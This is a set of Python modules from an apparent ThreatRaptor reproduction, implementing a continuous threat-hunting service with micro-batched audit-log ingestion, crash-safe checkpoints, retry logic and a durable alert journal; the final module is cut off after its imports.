        for alert in alerts:
            for sink in self._sinks:
                sink.emit(alert)
        return alerts

    # -- statistics ----------------------------------------------------------

    def matched_event_ids(self, name: str) -> set[int]:
        """Audit event ids matched so far by the hunt called ``name``."""
        return self._monitor.query(name).matched_event_ids()

    def statistics(self) -> dict[str, Any]:
        """Ingest throughput and per-hunt evaluation/alert counters."""
        ingest = self._ingestor.statistics
        return {
            "uptime_seconds": time.perf_counter() - self._started,
            "ingest": {
                "batches": ingest.batches,
                "events_ingested": ingest.events_ingested,
                "events_stored": ingest.events_stored,
                "entities_stored": ingest.entities_stored,
                "seconds": ingest.seconds,
                "events_per_second": ingest.events_per_second,
                "pending_events": self._raptor.store.pending_events,
            },
            "hunts": {
                standing.name: {
                    "evaluations": standing.evaluations,
                    "eval_seconds": standing.eval_seconds,
                    "alerts": standing.alerts_raised,
                    "matched_events": len(standing.matched_event_ids()),
                }
                for standing in self._monitor.queries
            },
        }


__all__ = ["HuntingService"]
