"""The continuous hunting service: ingestion + standing queries + alerts.

:class:`HuntingService` turns the one-shot ThreatRaptor pipeline into a
continuously running monitor.  It owns a
:class:`~repro.streaming.ingest.StreamIngestor` appending micro-batches into
the shared audit store and a :class:`~repro.streaming.monitor.QueryMonitor`
re-evaluating every registered hunt after each batch, dispatching new matches
to the configured alert sinks.

Typical usage::

    raptor = ThreatRaptor()
    service = raptor.watch(report_text, name="figure2")
    service.add_sink(CallbackSink(lambda alert: print(alert.describe())))
    service.run(LogTailSource(path="audit.log"))
    print(service.statistics())

Crash safety (optional): give the service a
:class:`~repro.streaming.checkpoint.CheckpointStore` and a
:class:`~repro.streaming.journal.JournalSink` and it checkpoints its standing
state after every micro-batch while journaling each alert durably.  After a
crash, :meth:`HuntingService.resume` rebuilds the monitor from the last
checkpoint, merges the journal's already-delivered signatures, and re-runs the
stream — replayed batches re-match old alerts but none are re-emitted, so the
journal ends byte-identical to an uninterrupted run's.
"""

from __future__ import annotations

import time
from typing import TYPE_CHECKING, Any, Iterable

from repro.streaming.alerts import Alert, AlertSink
from repro.streaming.checkpoint import CheckpointStore
from repro.streaming.ingest import IngestedBatch, StreamIngestor
from repro.streaming.journal import JournalSink
from repro.streaming.monitor import QueryMonitor, StandingQuery
from repro.streaming.source import EventSource, StreamRecord
from repro.tbql.ast import Query

if TYPE_CHECKING:  # pragma: no cover - import cycle guard, typing only
    from repro.core.pipeline import ThreatRaptor


class HuntingService:
    """Continuous hunting over a stream of audit events.

    Args:
        raptor: The pipeline facade providing storage, synthesis and query
            execution.  A default-configured one is built when omitted.
        batch_size: Records per ingestion micro-batch.
        sinks: Initial alert sinks; more can be added with :meth:`add_sink`.
        checkpoint_store: When given, the full standing state (hunt registry,
            dedup signatures, ingest counters, source offset) is checkpointed
            atomically after every micro-batch and on hunt registration.
        journal: Durable alert journal; appended to the sinks and consulted by
            :meth:`resume` for exactly-once delivery across restarts.
        quarantine_after: Consecutive evaluation failures after which the
            monitor quarantines a hunt instead of letting it keep crashing
            every batch.
    """

    def __init__(
        self,
        raptor: "ThreatRaptor | None" = None,
        batch_size: int = 256,
        sinks: Iterable[AlertSink] = (),
        checkpoint_store: CheckpointStore | None = None,
        journal: JournalSink | None = None,
        quarantine_after: int = 3,
    ) -> None:
        if raptor is None:
            from repro.core.pipeline import ThreatRaptor

            raptor = ThreatRaptor()
        self._raptor = raptor
        self._batch_size = batch_size
        self._ingestor = StreamIngestor(raptor.store, batch_size=batch_size)
        self._monitor = QueryMonitor(
            raptor.execute_query,
            prepare=raptor.prepare_query,
            quarantine_after=quarantine_after,
            # Under the enforcing analysis gate, lint-rejected queries must be
            # quarantined at registration — preparing them would raise.  In
            # "warn"/"off" modes the monitor registers everything unchecked.
            analyze=(
                raptor.analyze_query
                if raptor.config.analysis_mode == "enforce"
                else None
            ),
        )
        self._sinks: list[AlertSink] = list(sinks)
        self._checkpoint_store = checkpoint_store
        self._journal = journal
        if journal is not None and journal not in self._sinks:
            self._sinks.append(journal)
        self._source: EventSource | None = None
        self._resumed = False
        self._started = time.perf_counter()

    # -- configuration -------------------------------------------------------

    @property
    def raptor(self) -> "ThreatRaptor":
        return self._raptor

    @property
    def hunts(self) -> list[StandingQuery]:
        return self._monitor.queries

    @property
    def journal(self) -> JournalSink | None:
        return self._journal

    @property
    def checkpoint_store(self) -> CheckpointStore | None:
        return self._checkpoint_store

    def add_sink(self, sink: AlertSink) -> "HuntingService":
        """Add one alert destination; returns ``self`` for chaining."""
        self._sinks.append(sink)
        return self

    def register_hunt(
        self,
        name: str,
        report: str | None = None,
        query: Query | str | None = None,
        provenance: Iterable[str] = (),
        canonical_key: str | None = None,
    ) -> StandingQuery:
        """Register a standing hunt from an OSCTI report or a TBQL query.

        Exactly one of ``report`` (OSCTI text, synthesized into a TBQL query on
        registration — the paper's pipeline) or ``query`` (hand-written TBQL
        source or AST) must be given.  ``provenance`` names the originating
        OSCTI report ids; every alert the hunt raises carries them.
        """
        if (report is None) == (query is None):
            raise ValueError("register_hunt needs exactly one of report= or query=")
        if report is not None:
            extraction = self._raptor.extract_behavior_graph(report)
            query = self._raptor.synthesize_query(extraction.graph)
        assert query is not None
        standing = self._monitor.register(
            name, query, provenance=provenance, canonical_key=canonical_key
        )
        # A hunt registration is durable state: losing it on crash would
        # silently stop the hunt instead of resuming it.
        self.checkpoint()
        return standing

    def hunt(self, name: str) -> StandingQuery | None:
        """The registered hunt called ``name``, or ``None``."""
        return self._monitor.get(name)

    def hunt_by_canonical_key(self, canonical_key: str) -> StandingQuery | None:
        """The registered hunt carrying ``canonical_key``, if any."""
        return self._monitor.by_canonical_key(canonical_key)

    def extend_hunt_provenance(self, name: str, report_ids: Iterable[str]) -> StandingQuery:
        """Append report ids to a hunt's provenance (corpus dedup bookkeeping)."""
        return self._monitor.extend_provenance(name, report_ids)

    def reinstate_hunt(self, name: str) -> StandingQuery:
        """Clear a hunt's quarantine so the next batch evaluates it again."""
        return self._monitor.reinstate(name)

    # -- processing ----------------------------------------------------------

    def process_batch(self, records: Iterable[StreamRecord]) -> list[Alert]:
        """Ingest one micro-batch and re-evaluate every standing hunt."""
        batch = self._ingestor.ingest(records)
        return self._evaluate(batch)

    def run(
        self,
        source: EventSource | Iterable[StreamRecord],
        max_batches: int | None = None,
        flush: bool = True,
    ) -> list[Alert]:
        """Consume a source to exhaustion, then flush pending events.

        Returns every alert raised during the run.  Follow-mode sources never
        exhaust on their own; bound them with ``max_batches`` or the source's
        own ``max_events``.  ``flush=False`` stops exactly at the batch
        boundary without sealing pending events — the crash-recovery harness
        uses it to model a process killed mid-stream.
        """
        if isinstance(source, EventSource):
            self._source = source
        alerts: list[Alert] = []
        for processed, batch in enumerate(self._ingestor.ingest_stream(iter(source)), start=1):
            alerts.extend(self._evaluate(batch))
            if max_batches is not None and processed >= max_batches:
                break
        if flush:
            alerts.extend(self.flush())
        return alerts

    def flush(self) -> list[Alert]:
        """Seal pending (merge-open) events and run a final evaluation."""
        batch = self._ingestor.flush()
        if not batch.report.stored_events:
            return []
        return self._evaluate(batch)

    def _evaluate(self, batch: IngestedBatch) -> list[Alert]:
        if not batch.report.stored_events:
            return []
        alerts = self._monitor.evaluate(batch.index, batch.watermark_start_ns)
        for alert in alerts:
            for sink in self._sinks:
                sink.emit(alert)
        # Checkpoint *after* the journal has the batch's alerts: on replay,
        # anything the checkpoint misses is still covered by the journal.
        self.checkpoint()
        return alerts

    # -- checkpoint / restore ------------------------------------------------

    def checkpoint_state(self) -> dict[str, Any]:
        """The full snapshot a checkpoint persists (JSON-serialisable)."""
        ingest = self._ingestor.statistics
        state: dict[str, Any] = {
            "batch_size": self._batch_size,
            "ingest": {
                "batches": ingest.batches,
                "events_ingested": ingest.events_ingested,
                "events_stored": ingest.events_stored,
                "entities_stored": ingest.entities_stored,
            },
            "hunts": self._monitor.snapshot_state(),
        }
        if self._journal is not None:
            state["journal_next_seq"] = self._journal.next_seq
        if self._source is not None:
            state["source"] = self._source.checkpoint_state()
        return state

    def checkpoint(self) -> None:
        """Persist :meth:`checkpoint_state` when a store is configured."""
        if self._checkpoint_store is not None:
            self._checkpoint_store.save(self.checkpoint_state())

    @classmethod
    def resume(
        cls,
        checkpoint_store: CheckpointStore,
        raptor: "ThreatRaptor | None" = None,
        batch_size: int = 256,
        sinks: Iterable[AlertSink] = (),
        journal: JournalSink | None = None,
        quarantine_after: int = 3,
    ) -> "HuntingService":
        """Rebuild a hunting service from its last checkpoint.

        Loads the newest restorable snapshot (falling back to the previous
        one if the latest write was torn), re-registers every hunt with its
        provenance and canonical key, restores dedup signatures and counters,
        and merges the journal's recovered signatures so replayed matches are
        never re-delivered.  With no checkpoint on disk this degrades to a
        fresh service wired to the same store — first boot and recovery share
        one code path.

        The audit store is in-memory, so the caller re-runs the stream from
        the beginning (or from the checkpointed source offset when the
        underlying storage is durable); restored signatures make the replay
        emit exactly the alerts the crash lost.
        """
        state = checkpoint_store.load()
        service = cls(
            raptor=raptor,
            batch_size=int(state["batch_size"]) if state else batch_size,
            sinks=sinks,
            checkpoint_store=checkpoint_store,
            journal=journal,
            quarantine_after=quarantine_after,
        )
        if state is not None:
            service._monitor.restore_state(state.get("hunts", ()))
            service._resumed = True
        if journal is not None:
            for hunt_name, signatures in journal.signatures().items():
                standing = service._monitor.get(hunt_name)
                if standing is not None:
                    standing.absorb_signatures(signatures)
        return service

    @property
    def resumed(self) -> bool:
        """True when this service was rebuilt from a checkpoint."""
        return self._resumed

    # -- statistics ----------------------------------------------------------

    def matched_event_ids(self, name: str) -> set[int]:
        """Audit event ids matched so far by the hunt called ``name``."""
        return self._monitor.query(name).matched_event_ids()

    def statistics(self) -> dict[str, Any]:
        """Ingest throughput, per-hunt counters, and resilience accounting."""
        ingest = self._ingestor.statistics
        resilience: dict[str, Any] = {"resumed": self._resumed}
        if self._checkpoint_store is not None:
            resilience["checkpoint"] = self._checkpoint_store.statistics()
        if self._journal is not None:
            resilience["journal"] = self._journal.statistics()
        if self._source is not None:
            source_stats: dict[str, Any] = {}
            for counter in ("rotations", "truncations"):
                value = getattr(self._source, counter, None)
                if value is not None:
                    source_stats[counter] = value
            parse_stats = getattr(self._source, "statistics", None)
            if parse_stats is not None:
                source_stats["records_torn"] = parse_stats.records_torn
                source_stats["records_skipped"] = parse_stats.records_skipped
            retry_stats = getattr(self._source, "retry_stats", None)
            if retry_stats is not None:
                source_stats["retry"] = retry_stats.as_dict()
            if source_stats:
                resilience["source"] = source_stats
        return {
            "uptime_seconds": time.perf_counter() - self._started,
            "ingest": {
                "batches": ingest.batches,
                "events_ingested": ingest.events_ingested,
                "events_stored": ingest.events_stored,
                "entities_stored": ingest.entities_stored,
                "seconds": ingest.seconds,
                "events_per_second": ingest.events_per_second,
                "pending_events": self._raptor.store.pending_events,
            },
            "hunts": {
                standing.name: {
                    "evaluations": standing.evaluations,
                    "eval_seconds": standing.eval_seconds,
                    "alerts": standing.alerts_raised,
                    "matched_events": len(standing.matched_event_ids()),
                    "errors": standing.errors,
                    "last_error": standing.last_error,
                    "status": standing.status,
                }
                for standing in self._monitor.queries
            },
            "resilience": resilience,
        }


__all__ = ["HuntingService"]
