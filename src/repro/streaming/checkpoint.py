"""Versioned, atomically-written checkpoints for the hunting service.

A continuous hunt holds state that is expensive or impossible to rebuild from
scratch after a restart: the standing-query registry (names, TBQL text,
provenance, canonical keys), every hunt's alert-dedup signatures and matched
event ids, ingest counters, and the tail offset of the log being followed.
:class:`CheckpointStore` persists a JSON snapshot of all of it after each
micro-batch.

Writes are crash-safe by construction: the snapshot goes to a temp file in
the same directory, is flushed and fsynced, and is then renamed over the live
checkpoint (``os.replace`` is atomic on POSIX).  The previous checkpoint is
kept as ``<name>.prev``, so a crash *during* the swap — or a corrupted latest
file — falls back to the last good snapshot instead of losing the hunt.

Restore semantics (see :meth:`repro.streaming.service.HuntingService.resume`):
the audit store itself is in-memory, so recovery re-ingests the stream from
the beginning; the restored dedup signatures and the alert journal
(:mod:`repro.streaming.journal`) suppress duplicate emission, making the
replayed run's alert set identical to an uninterrupted one.  The recorded
source offset is for deployments with durable audit storage, which can seek
instead of replaying.
"""

from __future__ import annotations

import json
import os
import time
from pathlib import Path
from typing import Any

from repro.errors import CheckpointError

#: Bump when the snapshot layout changes incompatibly; load() refuses to
#: restore a checkpoint written by a different version.
CHECKPOINT_VERSION = 1


class CheckpointStore:
    """Atomic write-temp + fsync + rename persistence for one checkpoint.

    Args:
        directory: Directory holding the checkpoint files (created when
            missing).  One store owns one checkpoint; the hunting service
            typically keeps its alert journal in the same directory.
        filename: Name of the live checkpoint file.
    """

    def __init__(self, directory: str | Path, filename: str = "checkpoint.json") -> None:
        self._directory = Path(directory)
        self._directory.mkdir(parents=True, exist_ok=True)
        self._path = self._directory / filename
        self._prev = self._directory / (filename + ".prev")
        self._tmp = self._directory / (filename + ".tmp")
        #: Write-cost accounting surfaced by ``HuntingService.statistics()``.
        self.writes = 0
        self.write_seconds = 0.0

    # -- persistence ---------------------------------------------------------

    def save(self, state: dict[str, Any]) -> Path:
        """Atomically persist ``state`` (version-stamped) as the checkpoint."""
        started = time.perf_counter()
        payload = dict(state)
        payload["version"] = CHECKPOINT_VERSION
        payload["written_at"] = time.time()
        data = json.dumps(payload, sort_keys=True)
        with open(self._tmp, "w", encoding="utf-8") as handle:
            handle.write(data)
            handle.flush()
            os.fsync(handle.fileno())
        if self._path.exists():
            os.replace(self._path, self._prev)
        os.replace(self._tmp, self._path)
        self._fsync_directory()
        self.writes += 1
        self.write_seconds += time.perf_counter() - started
        return self._path

    def load(self) -> dict[str, Any] | None:
        """The most recent restorable snapshot, or ``None`` when none exists.

        The live file is preferred; a corrupt or missing live file falls back
        to ``.prev``.  If snapshots exist but none can be restored (all
        corrupt, or written by an incompatible version), a
        :class:`CheckpointError` is raised rather than silently starting
        fresh — losing dedup state would duplicate every past alert.
        """
        candidates = [path for path in (self._path, self._prev) if path.exists()]
        if not candidates:
            return None
        errors: list[str] = []
        for path in candidates:
            try:
                state = json.loads(path.read_text(encoding="utf-8"))
            except (OSError, json.JSONDecodeError) as exc:
                errors.append(f"{path.name}: {exc}")
                continue
            version = state.get("version")
            if version != CHECKPOINT_VERSION:
                errors.append(
                    f"{path.name}: checkpoint version {version!r} != {CHECKPOINT_VERSION}"
                )
                continue
            return state
        raise CheckpointError(
            "no restorable checkpoint in " + str(self._directory) + ": " + "; ".join(errors)
        )

    # -- inspection ----------------------------------------------------------

    @property
    def directory(self) -> Path:
        return self._directory

    @property
    def path(self) -> Path:
        return self._path

    def exists(self) -> bool:
        return self._path.exists() or self._prev.exists()

    def statistics(self) -> dict[str, Any]:
        return {
            "writes": self.writes,
            "write_seconds": self.write_seconds,
            "seconds_per_write": self.write_seconds / self.writes if self.writes else 0.0,
        }

    # -- internal ------------------------------------------------------------

    def _fsync_directory(self) -> None:
        # Make the rename itself durable (POSIX requires fsyncing the parent
        # directory for that); best-effort on platforms without O_DIRECTORY.
        try:
            fd = os.open(self._directory, os.O_RDONLY)
        except OSError:  # pragma: no cover - platform-specific
            return
        try:
            os.fsync(fd)
        finally:
            os.close(fd)


__all__ = ["CHECKPOINT_VERSION", "CheckpointStore"]
