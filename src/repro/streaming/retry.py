"""Deterministic retry for transient I/O faults, shared by sources and sinks.

A live deployment keeps tailing a log and appending to alert destinations for
days; both paths see transient ``OSError``\\ s (NFS hiccups, a rotated handle,
a briefly-full pipe) that must not kill the hunting service.
:class:`RetryPolicy` wraps such calls in bounded exponential backoff whose
jitter is **deterministic** (seeded, per-attempt), so fault-injection tests
and crash-recovery differential runs replay byte-identically.

The policy is shared: :class:`~repro.streaming.source.LogTailSource` guards
its reads with one, :class:`~repro.streaming.alerts.RetryingSink` and
:class:`~repro.streaming.journal.JournalSink` guard their writes.
"""

from __future__ import annotations

import random
import threading
import time
from dataclasses import dataclass
from typing import Any, Callable

from repro.errors import RetryExhaustedError


@dataclass
class RetryStats:
    """Counters describing what a retry-guarded component went through.

    ``statistics()`` surfaces these so every injected or real fault is
    accounted for: ``attempts`` counts every call made, ``retries`` the calls
    that failed transiently and were re-issued, ``giveups`` the operations
    abandoned after exhausting the policy.
    """

    attempts: int = 0
    retries: int = 0
    giveups: int = 0

    def as_dict(self) -> dict[str, int]:
        return {"attempts": self.attempts, "retries": self.retries, "giveups": self.giveups}


@dataclass(frozen=True)
class RetryPolicy:
    """Bounded exponential backoff with deterministic jitter.

    Args:
        max_attempts: Total tries per operation (first call included).
        base_delay: Backoff before the second attempt, in seconds; doubles per
            subsequent attempt.
        max_delay: Ceiling on any single backoff sleep.
        jitter: Fractional jitter width: each delay is scaled by a seeded
            draw from ``[1 - jitter, 1 + jitter]``.
        seed: Seed of the jitter schedule — the same policy produces the same
            delays on every run (crash/replay determinism).
        per_attempt_timeout: When set, each attempt runs on a worker thread
            and is abandoned (counted as a transient failure) if it has not
            returned within this many seconds, so a hung read cannot stall
            the whole service.
        retry_on: Exception types treated as transient.  ``TimeoutError`` is
            an ``OSError`` subclass, so timed-out attempts retry by default.
    """

    max_attempts: int = 5
    base_delay: float = 0.05
    max_delay: float = 2.0
    jitter: float = 0.25
    seed: int = 0
    per_attempt_timeout: float | None = None
    retry_on: tuple[type[BaseException], ...] = (OSError,)

    def __post_init__(self) -> None:
        if self.max_attempts < 1:
            raise ValueError("max_attempts must be at least 1")
        if self.base_delay < 0 or self.max_delay < 0:
            raise ValueError("delays must be non-negative")
        if self.jitter < 0 or self.jitter > 1:
            raise ValueError("jitter must be within [0, 1]")

    def delay_for(self, attempt: int) -> float:
        """Backoff to sleep after failed attempt ``attempt`` (1-based)."""
        delay = min(self.max_delay, self.base_delay * (2 ** (attempt - 1)))
        rng = random.Random((self.seed << 20) ^ attempt)
        return delay * (1.0 + self.jitter * (2.0 * rng.random() - 1.0))

    def delays(self) -> tuple[float, ...]:
        """The full (deterministic) backoff schedule of one operation."""
        return tuple(self.delay_for(attempt) for attempt in range(1, self.max_attempts))

    def call(
        self,
        fn: Callable[..., Any],
        *args: Any,
        sleep: Callable[[float], None] = time.sleep,
        stats: RetryStats | None = None,
        **kwargs: Any,
    ) -> Any:
        """Invoke ``fn`` under this policy, returning its result.

        Args:
            sleep: Injection point for backoff sleeping (tests pass a no-op).
            stats: Optional counters updated in place.

        Raises:
            RetryExhaustedError: when every attempt failed transiently.  Any
                exception outside ``retry_on`` propagates immediately.
        """
        last_error: BaseException | None = None
        for attempt in range(1, self.max_attempts + 1):
            if stats is not None:
                stats.attempts += 1
            try:
                return self._attempt(fn, args, kwargs)
            except self.retry_on as exc:
                last_error = exc
                if attempt >= self.max_attempts:
                    break
                if stats is not None:
                    stats.retries += 1
                sleep(self.delay_for(attempt))
        if stats is not None:
            stats.giveups += 1
        raise RetryExhaustedError(
            f"operation failed after {self.max_attempts} attempts: {last_error}"
        ) from last_error

    def _attempt(self, fn: Callable[..., Any], args: tuple, kwargs: dict) -> Any:
        if self.per_attempt_timeout is None:
            return fn(*args, **kwargs)
        box: dict[str, Any] = {}

        def runner() -> None:
            try:
                box["result"] = fn(*args, **kwargs)
            except BaseException as exc:  # noqa: BLE001 - re-raised on the caller thread
                box["error"] = exc

        worker = threading.Thread(target=runner, daemon=True)
        worker.start()
        worker.join(self.per_attempt_timeout)
        if worker.is_alive():
            # The attempt is abandoned (the daemon thread is left to finish or
            # hang); TimeoutError is an OSError, so the policy retries it.
            raise TimeoutError(
                f"attempt exceeded per-attempt timeout of {self.per_attempt_timeout}s"
            )
        if "error" in box:
            raise box["error"]
        return box["result"]


#: Conservative default used by sources/sinks when callers just say "retry".
DEFAULT_RETRY_POLICY = RetryPolicy()

__all__ = ["DEFAULT_RETRY_POLICY", "RetryPolicy", "RetryStats"]
