"""Durable append-only alert journal: exactly-once delivery across restarts.

:class:`JournalSink` is the crash-safe alert destination of the hunting
service.  Every alert is appended as one JSON line carrying a monotonically
increasing sequence number, flushed and (by default) fsynced before the emit
returns — so an alert the service reported is on disk even if the process
dies on the next instruction.

Exactly-once delivery across crash/restart works with the recovery model of
:mod:`repro.streaming.checkpoint`: after a crash the service re-ingests the
stream, standing queries re-find old matches, but the journal recognises each
match's restart-stable signature (the sorted audit event ids it binds, see
:meth:`~repro.streaming.monitor.QueryMonitor`) and suppresses re-emission.
A journaled alert is therefore written **once** no matter how many times the
batches that produced it are replayed.

Recovery tolerates a torn final line (the process died mid-append): the
incomplete tail is truncated away on open, and because the truncated alert
never counted as delivered, its re-emission after replay is exactly the
missing write.  Corruption *before* the final line is not a crash artifact
and raises :class:`~repro.errors.JournalError`.
"""

from __future__ import annotations

import json
import os
import time
from pathlib import Path
from typing import Any

from repro.errors import JournalError
from repro.streaming.alerts import Alert, AlertSink
from repro.streaming.retry import RetryPolicy, RetryStats

Signature = tuple[int, ...]


class JournalSink(AlertSink):
    """Append-only JSONL alert journal with crash recovery.

    Args:
        path: Journal file; created (with parent directories) when missing,
            recovered when present.
        retry: Optional :class:`RetryPolicy` guarding each append against
            transient I/O errors.
        sync: fsync after every append (durable, the default).  Benchmarks
            can disable it to measure the raw formatting/write cost.
        sleep: Backoff sleep injection point for the retry policy (tests).
    """

    def __init__(
        self,
        path: str | Path,
        retry: RetryPolicy | None = None,
        sync: bool = True,
        sleep=time.sleep,
    ) -> None:
        self._path = Path(path)
        self._retry = retry
        self._sync = sync
        self._sleep = sleep
        self.retry_stats = RetryStats()
        #: (hunt name -> signatures already durably journaled); the dedup set
        #: consulted on every emit.
        self._journaled: dict[str, set[Signature]] = {}
        self._entries: list[dict[str, Any]] = []
        self._next_seq = 0
        #: Alerts whose re-emission was suppressed because their signature was
        #: already journaled (replayed batches after a resume).
        self.suppressed = 0
        #: Entries read back from an existing journal on open.
        self.recovered_entries = 0
        #: 1 when a torn final line had to be truncated during recovery.
        self.truncated_tail = 0
        self._path.parent.mkdir(parents=True, exist_ok=True)
        self._recover()
        self._handle = open(self._path, "a", encoding="utf-8")

    # -- recovery ------------------------------------------------------------

    def _recover(self) -> None:
        if not self._path.exists():
            return
        raw = self._path.read_bytes()
        good_end = 0
        offset = 0
        torn = False
        while offset < len(raw):
            newline = raw.find(b"\n", offset)
            if newline == -1:
                torn = True  # mid-append crash: unterminated tail
                break
            line = raw[offset:newline]
            try:
                entry = json.loads(line)
            except json.JSONDecodeError:
                entry = None
            if (
                not isinstance(entry, dict)
                or "seq" not in entry
                or not isinstance(entry.get("alert"), dict)
            ):
                # A malformed *final* line is a torn write; anything earlier
                # means the file was damaged some other way.
                if raw.find(b"\n", newline + 1) != -1:
                    raise JournalError(
                        f"journal {self._path} is corrupt before its final line "
                        f"(byte offset {offset})"
                    )
                torn = True
                break
            self._absorb(entry)
            good_end = newline + 1
            offset = newline + 1
        if torn or good_end < len(raw):
            self.truncated_tail = 1
            with open(self._path, "r+b") as handle:
                handle.truncate(good_end)
                handle.flush()
                os.fsync(handle.fileno())

    def _absorb(self, entry: dict[str, Any]) -> None:
        alert = entry["alert"]
        signature = tuple(int(event_id) for event_id in alert.get("matched_event_ids", ()))
        self._journaled.setdefault(str(alert.get("hunt")), set()).add(signature)
        self._entries.append(entry)
        self._next_seq = max(self._next_seq, int(entry["seq"]) + 1)
        self.recovered_entries += 1

    # -- emission ------------------------------------------------------------

    def emit(self, alert: Alert) -> None:
        signature: Signature = tuple(int(event_id) for event_id in alert.matched_event_ids)
        seen = self._journaled.setdefault(alert.hunt, set())
        if signature in seen:
            self.suppressed += 1
            return
        entry = {"seq": self._next_seq, "alert": alert.to_dict()}
        data = json.dumps(entry, sort_keys=True) + "\n"
        if self._retry is not None:
            self._retry.call(self._append, data, sleep=self._sleep, stats=self.retry_stats)
        else:
            self._append(data)
        seen.add(signature)
        self._entries.append(entry)
        self._next_seq += 1

    def _append(self, data: str) -> None:
        self._handle.write(data)
        self._handle.flush()
        if self._sync:
            os.fsync(self._handle.fileno())

    # -- inspection ----------------------------------------------------------

    @property
    def path(self) -> Path:
        return self._path

    @property
    def next_seq(self) -> int:
        """Sequence number the next journaled alert will carry."""
        return self._next_seq

    def __len__(self) -> int:
        return len(self._entries)

    def signatures(self) -> dict[str, set[Signature]]:
        """Durably journaled signatures per hunt (recovery merges these into
        the monitor's dedup state so non-journal sinks stay exactly-once too)."""
        return {hunt: set(sigs) for hunt, sigs in self._journaled.items()}

    def entries(self) -> list[dict[str, Any]]:
        """Every journaled entry (recovered + emitted), in sequence order."""
        return list(self._entries)

    def alerts(self) -> list[Alert]:
        """The journaled alerts, rebuilt as :class:`Alert` objects."""
        return [Alert.from_dict(entry["alert"]) for entry in self._entries]

    def statistics(self) -> dict[str, Any]:
        return {
            "entries": len(self._entries),
            "recovered_entries": self.recovered_entries,
            "suppressed_duplicates": self.suppressed,
            "truncated_tail": self.truncated_tail,
            "next_seq": self._next_seq,
            "retry": self.retry_stats.as_dict(),
        }

    def close(self) -> None:
        if not self._handle.closed:
            self._handle.flush()
            if self._sync:
                os.fsync(self._handle.fileno())
            self._handle.close()

    def __enter__(self) -> "JournalSink":
        return self

    def __exit__(self, *_exc: object) -> None:
        self.close()


__all__ = ["JournalSink"]
