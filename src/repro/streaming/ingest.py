"""Micro-batched incremental ingestion into the audit store.

:class:`StreamIngestor` is the bridge between an event source and the
:class:`~repro.storage.loader.AuditStore`: it groups streamed records into
micro-batches, deduplicates entities, and appends each batch into both storage
backends through :meth:`AuditStore.append_batch` — which runs the events
through the incremental Causality Preserved Reduction so the stored data
matches what a whole-trace batch load would have produced.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import Iterable, Iterator

from repro.errors import ConfigurationError
from repro.storage.loader import AppendReport, AuditStore
from repro.streaming.source import StreamRecord, iter_batches


@dataclass
class IngestStatistics:
    """Cumulative counters over everything an ingestor has processed."""

    batches: int = 0
    events_ingested: int = 0
    events_stored: int = 0
    entities_stored: int = 0
    seconds: float = 0.0

    @property
    def events_per_second(self) -> float:
        """Batched-append throughput (0.0 before any work)."""
        if self.seconds <= 0.0:
            return 0.0
        return self.events_ingested / self.seconds


@dataclass
class IngestedBatch:
    """One processed micro-batch: the store's report plus batch metadata.

    Attributes:
        index: 0-based batch sequence number.
        report: What the store actually appended (after reduction).
        malicious_event_ids: Ground-truth labels carried by the batch's
            records, for evaluation harnesses.
        seconds: Wall-clock time spent appending the batch.
    """

    index: int
    report: AppendReport
    malicious_event_ids: set[int] = field(default_factory=set)
    seconds: float = 0.0

    @property
    def watermark_start_ns(self) -> int | None:
        """Earliest start time among the events this batch made queryable.

        Standing queries use this as the lower bound of their re-evaluation
        window: any match involving this batch's data must contain at least
        one event starting at or after it.  ``None`` when the batch sealed no
        events.
        """
        if not self.report.stored_events:
            return None
        return min(event.start_time for event in self.report.stored_events)


class StreamIngestor:
    """Appends micro-batches of streamed records into an audit store.

    Args:
        store: The combined audit store to append into.
        batch_size: Records per micro-batch when consuming a source.
    """

    def __init__(self, store: AuditStore, batch_size: int = 256) -> None:
        if batch_size < 1:
            raise ConfigurationError("batch_size must be at least 1")
        self._store = store
        self._batch_size = batch_size
        self.statistics = IngestStatistics()

    @property
    def store(self) -> AuditStore:
        return self._store

    @property
    def batch_size(self) -> int:
        return self._batch_size

    def ingest(self, records: Iterable[StreamRecord]) -> IngestedBatch:
        """Append one micro-batch of records into both backends."""
        started = time.perf_counter()
        record_list = list(records)
        entities = []
        for record in record_list:
            entities.extend(record.entities())
        malicious = {record.event.event_id for record in record_list if record.malicious}
        report = self._store.append_batch(
            entities, [record.event for record in record_list], malicious_event_ids=malicious
        )
        elapsed = time.perf_counter() - started

        self.statistics.batches += 1
        self.statistics.events_ingested += report.events_ingested
        self.statistics.events_stored += report.appended_events
        self.statistics.entities_stored += report.appended_entities
        self.statistics.seconds += elapsed
        return IngestedBatch(
            index=self.statistics.batches - 1,
            report=report,
            malicious_event_ids=malicious,
            seconds=elapsed,
        )

    def ingest_stream(self, records: Iterable[StreamRecord]) -> Iterator[IngestedBatch]:
        """Consume a record stream, yielding one :class:`IngestedBatch` each."""
        for batch in iter_batches(records, self._batch_size):
            yield self.ingest(batch)

    def flush(self) -> IngestedBatch:
        """Seal every pending (merge-open) event and append it to the store.

        A flush that seals nothing does not count as a batch.
        """
        started = time.perf_counter()
        report = self._store.flush()
        elapsed = time.perf_counter() - started
        if report.appended_events:
            self.statistics.batches += 1
            self.statistics.events_stored += report.appended_events
            self.statistics.seconds += elapsed
        return IngestedBatch(index=self.statistics.batches - 1, report=report, seconds=elapsed)


__all__ = ["IngestStatistics", "IngestedBatch", "StreamIngestor"]
