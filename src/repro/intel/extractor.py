"""Corpus-scale threat behavior extraction.

:class:`CorpusExtractor` runs the single-report
:class:`~repro.nlp.extractor.ThreatBehaviorExtractor` over many OSCTI reports
at once:

* **Worker pool** — extraction is pure CPU work, so multi-report corpora are
  fanned out over a ``concurrent.futures`` pool.  Process workers (forked, so
  the GIL does not serialize parsing) are preferred where available; thread
  workers are the fallback.  ``workers=1`` stays fully in-process.
* **Shared memoized setup** — the extractor (tokenizer, POS lexicons,
  dependency parser, coreference resolver) is built once per process per
  configuration and reused for every report it handles, instead of being
  rebuilt per report.
* **Duplicate-text dedup** — real feeds republish the same advisory; reports
  whose text is byte-identical are extracted once and share the result, with
  hits counted so the saving is observable.

Failures are isolated per report: one malformed report records an error entry
instead of aborting the corpus.
"""

from __future__ import annotations

import concurrent.futures
import hashlib
import multiprocessing
import time
from dataclasses import dataclass, field
from functools import lru_cache
from typing import Iterable

from repro.intel.corpus import CorpusReport, ReportCorpus
from repro.nlp.extractor import ExtractionResult, ThreatBehaviorExtractor

#: Hashable extractor configuration: (resolve_nominal_coreference,
#: protect_iocs_enabled, resolve_coreference, simplify_trees).
ExtractorFlags = tuple[bool, bool, bool, bool]

